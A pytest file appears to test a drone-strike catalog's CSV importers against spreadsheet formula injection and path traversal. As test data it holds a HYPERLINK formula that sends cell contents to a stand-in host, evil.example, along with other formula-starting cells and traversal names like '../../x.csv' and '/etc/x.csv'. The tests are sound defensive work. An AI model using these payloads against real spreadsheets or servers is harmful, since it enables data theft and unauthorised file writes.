"""Hostile text through the importers: what is accepted is written whole, no CSV we write
holds a formula a spreadsheet would run, and no file name writes outside its directory."""

from __future__ import annotations

import csv
import os
from datetime import date
from pathlib import Path

import pytest

from droneatlas.catalog import load_catalog
from droneatlas.importers import import_files, incoming_path
from droneatlas.importers.csvio import InputError
from droneatlas.text import spreadsheet_value
from tests.conftest import ROOT, SOURCE
from tests.hostile import HOSTILE, runs_as_formula

TODAY = date(2026, 11, 24)
HEADER = ("id", "lat", "lon", "date", "source_url", "place", "summary")


def write_csv(path: Path, header: tuple[str, ...], rows: list[tuple[str, ...]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])  # RFC 4180: CRLF, quotes where needed
    return path


def hostile_rows() -> list[tuple[str, ...]]:
    return [
        (f"h{n}", "50.45", "30.52", "2022-10-17", "https://example.org/a", text, text)
        for n, text in enumerate(HOSTILE)
    ]


def read_rows(path: Path) -> list[dict[str, str]]:
    """A data table's rows as our readers see them (each cell through spreadsheet_value)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return [{k: spreadsheet_value(v) for k, v in row.items()} for row in csv.DictReader(handle)]


def _formula_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row if runs_as_formula(cell)]


def test_every_accepted_row_reads_back_identically(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "hostile.csv", HEADER, hostile_rows())
    report = import_files([src], tmp_path / "out", today=TODAY)
    assert report.ok and report.accepted == len(HOSTILE)
    strikes_csv = tmp_path / "out" / "strikes.csv"
    assert _formula_cells(strikes_csv) == []  # opened in a spreadsheet, nothing runs
    written = {row["id"]: row for row in read_rows(strikes_csv)}
    assert len(written) == len(HOSTILE)
    for n, text in enumerate(HOSTILE):
        row = written[f"import-h{n}"]
        assert (row["summary"], row["place"]) == (text.strip(), text.strip())
    strikes = load_catalog(tmp_path / "out", today=TODAY).strikes.set_index("id")
    assert len(strikes) == len(HOSTILE)
    for n, text in enumerate(HOSTILE):
        assert strikes.loc[f"import-h{n}", ["place", "summary"]].tolist() == [text.strip()] * 2
    before = strikes_csv.read_bytes()
    assert import_files([src], tmp_path / "out", today=TODAY).ok
    assert strikes_csv.read_bytes() == before  # read back and written again: not quoted twice


def test_a_bare_cr_survives_a_second_import_into_the_same_directory(tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "cr.csv", HEADER, [("a", "50.4", "30.5", "2022-10-17", "https://e.org/a", "Ky\riv", "s")]
    )
    import_files([src], tmp_path / "out", today=TODAY)
    other = write_csv(
        tmp_path / "other.csv", HEADER, [("b", "50.4", "30.5", "2022-10-18", "https://e.org/b", "Lviv", "s")]
    )
    report = import_files([other], tmp_path / "out", today=TODAY)
    assert report.ok
    places = {row["id"]: row["place"] for row in read_rows(tmp_path / "out" / "strikes.csv")}
    assert places == {"import-a": "Ky\riv", "import-b": "Lviv"}


def test_import_report_has_no_formula_in_any_cell(tmp_path: Path) -> None:
    rows = [
        ("r1", "50.4", "30.5", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "https://e.org/a", "x", "y"),
        ("r2", "@SUM(1+1)", "30.5", "2022-10-17", "https://e.org/a", "x", "y"),
        ("r3", "50.4", "30.5", "2022-10-17", "\t=1+1", "x", "y"),
        ("-1+1", "50.4", "30.5", "2022-10-17", "", "x", "y"),
        (" +1+1", "50.4", "30.5", "2022-10-17", "", "x", "y"),
        ("\r=1+1", "50.4", "30.5", "2022-10-17", "", "x", "y"),
    ]
    src = write_csv(tmp_path / "=cmd.csv", HEADER, rows)
    report = import_files([src], tmp_path / "out", today=TODAY)
    assert report.rejected == len(rows)
    path = tmp_path / "out" / "import-report.csv"
    assert _formula_cells(path) == []
    records = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert {r[0] for r in records[1:]} == {"'=cmd.csv"}  # the value is still there, as text
    raws = [r[4] for r in records if r[2] == "rejected"]
    assert "'-1+1,50.4,30.5,2022-10-17,,x,y" in raws and "'\r=1+1,50.4,30.5,2022-10-17,,x,y" in raws
    assert len(records) == 1 + 1 + len(rows)  # header, the encoding note, one line per row


def test_data_tables_are_spreadsheet_safe_and_read_back_as_imported(tmp_path: Path, make_data_dir) -> None:
    """strikes.csv and the other tables hold no formula, numbers stay numbers, and the map
    shows the imported text; a curated title that starts with a quote keeps it."""
    curated = {**SOURCE, "title": "'Massive' strikes", "publisher": "'=1+1"}
    data = make_data_dir(sources=[curated])
    rows = [("f1", "-1.5", "-48.5", "2022-10-17", "https://e.org/a", "=1+1", "-1+1")]
    report = import_files([write_csv(tmp_path / "f.csv", HEADER, rows)], data, today=TODAY)
    assert report.ok
    for table in ("strikes", "sources", "drones", "sites"):
        assert _formula_cells(data / f"{table}.csv") == [], table
    with (data / "strikes.csv").open(encoding="utf-8", newline="") as handle:
        raw = next(row for row in csv.DictReader(handle) if row["id"] == "import-f1")
    assert (raw["lat"], raw["lon"], raw["place"], raw["summary"]) == (
        "-1.50000",
        "-48.50000",
        "'=1+1",
        "'-1+1",
    )
    catalog = load_catalog(data, today=TODAY)
    strike = catalog.strikes.set_index("id").loc["import-f1"]
    assert (strike["place"], strike["summary"], float(strike["lat"])) == ("=1+1", "-1+1", -1.5)
    # A human's "'=1+1" means the text "=1+1" (a spreadsheet's own reading of it).
    assert catalog.sources.loc["src-a", ["title", "publisher"]].tolist() == ["'Massive' strikes", "=1+1"]


@pytest.mark.parametrize("name", ["../../x.csv", "/etc/x.csv", "..", "", "C:\\x.csv", "a/b.csv"])
def test_upload_names_with_folders_are_refused_with_a_message(tmp_path: Path, name: str) -> None:
    with pytest.raises(InputError, match="not a plain file name"):
        incoming_path(tmp_path, name)
    assert incoming_path(tmp_path, "x.csv") == tmp_path / "x.csv"


def test_a_relative_input_path_writes_nothing_outside_the_target(tmp_path: Path, monkeypatch) -> None:
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    write_csv(tmp_path / "x.csv", HEADER, hostile_rows()[:2])
    before = sorted(p for p in tmp_path.rglob("*"))
    monkeypatch.chdir(work)
    report = import_files([Path("../../x.csv")], Path("out"), today=TODAY)
    assert report.ok and report.files[0].file == "x.csv"
    created = sorted(set(tmp_path.rglob("*")) - set(before))
    assert created and all(work / "out" in [p, *p.parents] for p in created), created
    assert os.listdir(work) == ["out"]


def test_the_shipped_tables_hold_no_formula() -> None:
    """data/ is opened in spreadsheets too (the gazetteer and labels are derived by scripts/)."""
    tables = sorted((ROOT / "data").rglob("*.csv"))
    assert len(tables) >= 5
    found = {str(path.relative_to(ROOT)): _formula_cells(path) for path in tables}
    assert {name: cells for name, cells in found.items() if cells} == {}
